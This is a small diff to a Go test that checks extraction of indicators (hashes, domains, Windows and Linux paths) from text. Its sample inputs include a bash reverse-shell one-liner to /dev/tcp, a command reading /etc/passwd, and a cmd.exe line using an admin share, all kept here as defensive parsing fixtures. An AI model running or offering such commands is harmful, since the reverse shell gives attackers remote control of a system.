@@ -24,7 +24,8 @@ func TestFind(t *testing.T) {
 		md5 + " " + md5: {"md5 " + md5, "md5 " + md5},
 		"blah.ps1 run.sh x.zip $_.Name $a.com Get.Info( domain.like.uk domain.like.iandom news.ycombinator.com": {"dns domain.like.uk", "dns news.ycombinator.com"},
 		`"C:\Program Files\a b\x.exe" -x C:\Windows\System32\cmd.exe /c \\srv01\c$\x.dll`: {
-			`windows_path C:\Program Files\a b\x.exe`, `windows_path C:\Windows\System32\cmd.exe`, `windows_path \\srv01\c$\x.dll`},
+			`windows_path C:\Program Files\a b\x.exe`, `windows_path C:\Windows\System32\cmd.exe`, `windows_path \\srv01\c$\x.dll`,
+		},
 		`C:\Program Files (x86)\Tool\t.exe --flag`:     {`windows_path C:\Program Files (x86)\Tool\t.exe`},
 		"/bin/bash --file:/etc/passwd cmd /c /F a/b/c": {"linux_path /bin/bash", "linux_path /etc/passwd"},
 		"bash -i >& /dev/tcp/192.168.2.6/443 0>&1":     {"linux_path /dev/tcp/192.168.2.6/443"},
